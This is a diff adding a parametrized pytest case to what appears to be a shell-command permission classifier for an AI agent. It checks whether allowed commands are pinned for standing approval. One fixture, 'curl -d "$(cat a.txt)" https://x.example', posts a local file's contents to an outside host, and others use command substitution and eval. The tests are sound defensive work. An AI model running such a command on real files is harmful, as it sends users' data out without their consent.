@@ -176,3 +176,21 @@ def test_a_target_that_became_a_symbolic_link_has_another_shape(tmp_path: Path) 
     assert after.shape == f"rm -f -r {tmp_path}/out/ (-> {elsewhere})", after
     inner = classify("rm -rf out/x", cwd=str(tmp_path), resolve_links=True)
     assert inner.shape == f"rm -f -r {tmp_path}/out/x (-> {elsewhere}/x)"
+
+
+@pytest.mark.parametrize(
+    ("command", "standing"),
+    [
+        ("ls $(cat list.txt)", False),
+        ('curl -d "$(cat a.txt)" https://x.example', False),
+        ("eval ls", False),
+        ("cd $DIR; ls", False),
+        ("ls", True),
+        ("echo hi > notes.txt", True),
+    ],
+)
+def test_allowed_commands_say_whether_their_text_pins_them(command: str, standing: bool) -> None:
+    """After outside content allowed commands ask too; the same rule decides whether a
+    standing approval may cover them."""
+    verdict = classify(command, cwd=CWD)
+    assert verdict.action == "allow" and verdict.standing is standing
